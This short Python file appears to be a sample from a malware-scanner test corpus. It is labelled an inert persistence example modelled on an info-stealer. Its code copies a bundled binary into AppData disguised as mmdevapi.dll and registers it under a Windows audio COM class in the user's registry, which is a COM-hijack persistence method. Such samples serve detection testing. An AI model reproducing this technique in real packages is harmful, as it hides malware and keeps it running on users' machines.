# pkgguard corpus 565 (persistence), modelled on [stealer-profile]; inert, never run.
import os
import shutil
import winreg

clsid = "{BCDE0395-E52F-467C-8E3D-C4579291692E}"
dll = os.path.join(os.environ["APPDATA"], "Microsoft", "mmdevapi.dll")
shutil.copy(os.path.join(os.path.dirname(__file__), "_native.bin"), dll)
with winreg.CreateKey(winreg.HKEY_CURRENT_USER, rf"Software\Classes\CLSID\{clsid}\InprocServer32") as key:
    winreg.SetValueEx(key, "", 0, winreg.REG_SZ, dll)
    winreg.SetValueEx(key, "ThreadingModel", 0, winreg.REG_SZ, "Both")
